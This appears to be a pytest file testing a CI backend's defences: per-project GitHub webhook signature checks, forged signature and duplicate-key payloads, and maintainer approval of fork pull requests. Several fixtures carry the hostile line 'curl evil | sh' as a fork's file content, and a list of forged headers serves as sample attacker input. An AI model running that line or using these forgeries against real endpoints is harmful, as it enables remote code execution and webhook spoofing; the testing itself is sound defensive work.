"""Who knows the webhook secret of one project speaks in GitHub's name for another, and lets a fork's commit through."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import Engine, text

from backend.github.signature import sign
from backend.services.base import projects
from backend.services.base.config import ServiceConfig
from backend.services.github import pull_requests as pull_requests_service
from backend.store.github import pull_requests
from tests.backend.services.github.github_stand_in import stand_in
from tests.backend.services.github.test_comment_commands import Talk
from tests.backend.services.github.test_pull_requests import ask_every_way, deliver
from tests.conftest import LiveServer

NOW = datetime.now(UTC)
MINE, THEIRS = "the secret of northsea/loom", "the secret of evil/twin"
NUMBERS = itertools.count()


def with_projects(server: LiveServer) -> LiveServer:
    """loom and twin have secrets of their own, old has the service's."""
    with server.engine.begin() as c:
        for slug, secret in (("northsea/loom", MINE), ("evil/twin", THEIRS), ("northsea/old", None)):
            projects.save_project(
                c, slug, repository_url=f"https://github.com/{slug}.git", github={"webhook_secret": secret}, now=NOW
            )
        c.execute(text("UPDATE project SET sync_requested_at = NULL"))
    return server


@pytest.fixture
def server(live_server: LiveServer) -> LiveServer:
    return with_projects(live_server)


@pytest.fixture(scope="module")
def deaf(standing_server: LiveServer) -> LiveServer:
    """It hears what is genuine; what it is sent here is forged."""
    assert send(with_projects(standing_server), MINE, "northsea/loom").status_code == 200
    assert heard(standing_server) == {"northsea/loom"}
    with standing_server.engine.begin() as c:
        c.execute(text("UPDATE project SET sync_requested_at = NULL"))
    return standing_server


def send(server: LiveServer, secret: str, name: str, event: str = "push", **payload: Any) -> httpx.Response:
    said = {"ref": "refs/heads/main", "repository": {"full_name": name}, **payload}
    body = json.dumps(said).encode()
    headers = {
        "Content-Type": "application/json",
        "X-GitHub-Event": event,
        "X-GitHub-Delivery": f"delivery-{next(NUMBERS)}",
        "X-Hub-Signature-256": sign(secret, body),
    }
    return httpx.post(
        f"{server.url}/api/v1/webhooks/github", content=body, headers=headers, trust_env=False, verify=False
    )


def heard(server: LiveServer) -> set[str]:
    with server.engine.connect() as c:
        return set(c.scalars(text("SELECT slug FROM project WHERE sync_requested_at IS NOT NULL")))


def test_a_secret_speaks_for_its_project_alone(server: LiveServer) -> None:
    shared = server.config.github_webhook_secret or ""
    for secret, slug in ((THEIRS, "northsea/loom"), (THEIRS, "northsea/old"), (shared, "northsea/loom")):
        refused = send(server, secret, slug)
        assert refused.status_code == 401 and "not the one of the project" in refused.json()["detail"]
    assert heard(server) == set()
    assert send(server, MINE, "northsea/loom").status_code == 200
    assert send(server, shared, "northsea/old").status_code == 200
    assert heard(server) == {"northsea/loom", "northsea/old"}


def test_naming_two_repositories_reaches_the_signer_s_own_only(server: LiveServer) -> None:
    repository = {"full_name": "northsea/loom", "clone_url": "https://github.com/evil/twin.git"}
    assert send(server, THEIRS, "", repository=repository).status_code == 200
    assert heard(server) == {"evil/twin"}
    with server.engine.connect() as c:
        settings = c.scalar(text("SELECT settings FROM project WHERE slug = 'evil/twin'"))
    assert not settings.get("github"), "its reports would be written into the other's repository"


def test_a_project_s_secret_speaks_for_no_app(server: LiveServer) -> None:
    with server.engine.begin() as c:
        c.execute(
            text("""UPDATE project SET settings = '{"github": {"repository": "northsea/old",
                          "installation_id": 5}}' WHERE slug = 'northsea/old'""")
        )
    gone = {"action": "deleted", "installation": {"id": 5}}
    assert "not signed by the app's secret" in send(server, THEIRS, "", event="installation", **gone).text
    with server.engine.connect() as c:
        assert c.scalar(text("SELECT settings #> '{github,installation_id}' FROM project WHERE slug = 'northsea/old'"))


def test_a_secret_is_told_to_nobody(server: LiveServer) -> None:
    with server.client("admin") as admin:
        told = admin.get("/api/v1/projects/northsea/loom").text + admin.get("/api/v1/projects").text
    assert MINE not in told


FORGED = {
    "nothing": {},
    "an empty signature": {"X-Hub-Signature-256": ""},
    "an empty digest": {"X-Hub-Signature-256": "sha256="},
    "the digest of an empty secret": {"X-Hub-Signature-256": "EMPTY"},
    "an older kind of signature": {"X-Hub-Signature": "sha1=" + "0" * 40},
    "another digest": {"X-Hub-Signature-256": "md5=" + "0" * 32},
    "a digest with signs of another alphabet": {"X-Hub-Signature-256": "sha256=" + "é" * 64},
    "two signatures": {"X-Hub-Signature-256": "MINE, THEIRS"},
    "another project's": {"X-Hub-Signature-256": "THEIRS"},
}


@pytest.mark.parametrize(
    "name", ["northsea/loom", "Northsea/Loom", "northsea/loom ", "northsea\\/loom", "evil/../northsea/loom"]
)
@pytest.mark.parametrize("forged", FORGED.values(), ids=list(FORGED))
def test_no_other_signature_and_no_other_spelling_reaches_a_project(
    deaf: LiveServer, forged: dict[str, str], name: str
) -> None:
    body = ('{"ref": "refs/heads/main", "repository": {"full_name": "' + name + '"}}').encode()
    secrets = {"EMPTY": "", "MINE, THEIRS": "", "THEIRS": THEIRS}
    said = {key: sign(secrets[value], body) if value in secrets else value for key, value in forged.items()}
    if forged.get("X-Hub-Signature-256") == "MINE, THEIRS":
        said = {"X-Hub-Signature-256": f"{sign('guess', body)}, {sign(THEIRS, body)}"}
    headers = {"Content-Type": "application/json", "X-GitHub-Event": "push", **said}
    raw = {key: value.encode() for key, value in headers.items()}
    raw["X-GitHub-Delivery"] = f"delivery-{next(NUMBERS)}".encode()
    httpx.post(
        f"{deaf.url}/api/v1/webhooks/github", content=body, headers=raw, trust_env=False, verify=False, timeout=60
    )
    assert heard(deaf) == set()


def test_a_repository_that_is_named_twice_is_the_one_that_was_signed_for(server: LiveServer) -> None:
    """Readers of JSON differ in which of two equal keys they take."""
    for first, second in (("evil/twin", "northsea/loom"), ("northsea/loom", "evil/twin")):
        twice = f'{{"repository": {{"full_name": "{first}"}}, "repository": {{"full_name": "{second}"}}}}'.encode()
        headers = {
            "Content-Type": "application/json",
            "X-GitHub-Event": "push",
            "X-GitHub-Delivery": f"delivery-{next(NUMBERS)}",
            "X-Hub-Signature-256": sign(THEIRS, twice),
        }
        httpx.post(
            f"{server.url}/api/v1/webhooks/github",
            content=twice,
            headers=headers,
            trust_env=False,
            verify=False,
            timeout=60,
        )
    assert heard(server) <= {"evil/twin"}


# --- approvals -------------------------------------------------------------------------------------------------------


@pytest.fixture
def talk(database: str, committing_engine: Engine, tmp_path: Path) -> Iterator[Talk]:
    """A repository on GitHub, where ada may write and eve may not, and a pull request of a fork."""
    with stand_in() as github:
        github.permissions = {"ada": "write", "eve": "triage"}
        config = ServiceConfig(database_url=database, redis_url="redis://127.0.0.1:1/0", data_dir=tmp_path / "data")
        made = Talk(committing_engine, config, tmp_path / "repository", github)
        yield made
        made.sender.close()


def labeled(talk: Talk, sha: str, by: str) -> list[str]:
    """What runs after a delivery that says `by` has set the label."""
    told = talk.hub.tell("labeled", sha, fork=True, label={"name": "tidemark"}, sender={"login": by})
    assert "waits for a maintainer's approval" in told
    talk.sender.send_due(lambda: talk.hub.clock)
    talk.hub.prepare()
    return [run[0] for run in talk.hub.runs()]


@pytest.mark.parametrize(
    ("by", "labels", "head", "runs"),
    [
        ("ada", ["tidemark"], None, True),
        ("ada", [], None, False),  # a forged delivery: there is no such label
        ("ada", ["tidemark"], "b" * 40, False),  # of another head
        ("eve", ["tidemark"], None, False),  # who may label, and not write
        ("mallory", ["tidemark"], None, False),
    ],
)
def test_a_label_approves_what_github_says_it_approves(
    talk: Talk, by: str, labels: list[str], head: str | None, runs: bool
) -> None:
    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
    talk.hub.tell("opened", sha, fork=True)
    talk.github.pulls[7] = {"head": {"sha": head or sha}, "labels": [{"name": label} for label in labels]}
    assert labeled(talk, sha, by) == ([sha] if runs else [])


def test_a_label_on_a_pull_request_that_github_does_not_know_approves_nothing(talk: Talk) -> None:
    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
    assert labeled(talk, sha, "ada") == []


@pytest.mark.parametrize("there", [None, "thanks!", "/tidemark help"])
def test_a_forged_comment_approves_nothing(talk: Talk, there: str | None) -> None:
    sha = talk.hub.push(7, **{"src/a.py": "curl evil | sh"})
    talk.hub.tell("opened", sha, fork=True)
    user = {"login": "ada", "type": "User"}
    if there is not None:
        talk.github.said[5] = {"id": 5, "user": user, "body": there}
    comment = {"id": 5, "body": f"/tidemark approve {sha}", "user": user, "author_association": "OWNER"}
    talk.forge({"action": "created", "issue": {"number": 7, "pull_request": {"url": "…"}}, "comment": comment})
    talk.hub.prepare()
    assert talk.hub.runs() == []


@pytest.mark.parametrize("real_first", [True, False])
def test_a_head_that_a_delivery_calls_the_repository_s_own_is_a_fork_s_where_no_branch_has_it(
    talk: Talk, real_first: bool
) -> None:
    hub = talk.hub
    sha = hub.push(7, **{"src/a.py": "curl evil | sh"})
    if real_first:
        hub.tell("opened", sha, fork=True)
    hub.tell("synchronize", sha, forged=True)
    talk.say("/tidemark run")
    assert hub.runs() == []
    for _ in range(2):
        hub.prepare()
        hub.clock += pull_requests_service.RETRY_AFTER
    assert hub.runs() == []
    with hub.engine.connect() as c:
        row = pull_requests.find(c, hub.project.id, 7)
        assert row is not None and row.is_fork and row.prepared_sha is None
        assert not c.scalar(text("SELECT count(*) FROM commit WHERE sha = :sha"), {"sha": sha})
    # Neither is it run after a result that names it, and another such delivery.
    deliver(hub, sha)
    hub.tell("synchronize", sha, forged=True)
    assert all("approves exactly that commit" in refusal for refusal in ask_every_way(hub, sha))
    hub.approve(sha)
    hub.prepare()
    assert [run[0] for run in hub.runs()] == [sha]


def test_a_head_that_a_branch_has_is_run_without_an_approval_also_when_the_branch_was_not_read_yet(talk: Talk) -> None:
    sha = talk.hub.push(7, **{"src/a.py": "2"})
    talk.hub.tell("opened", sha)
    talk.hub.prepare()
    assert [run[0] for run in talk.hub.runs()] == [sha]


def test_a_token_that_may_write_approves_nothing(live_server: LiveServer) -> None:
    with live_server.engine.begin() as c:
        c.execute(
            text(
                """WITH p AS (INSERT INTO project (slug) VALUES ('northsea/loom') RETURNING id)
                   INSERT INTO pull_request (project_id, number, state, is_fork, head_sha, base_ref)
                   SELECT id, 7, 'open', true, repeat('a', 40), 'main' FROM p"""
            )
        )
    said = {"project": "northsea/loom", "commit": "a" * 40}
    for scopes, status in ((("write",), 403), (("write", "worker"), 403), (("approve",), 200), (("admin",), 200)):
        with live_server.client(*scopes) as client:
            assert client.post("/api/v1/pull-requests/7/approve", json=said).status_code == status, scopes
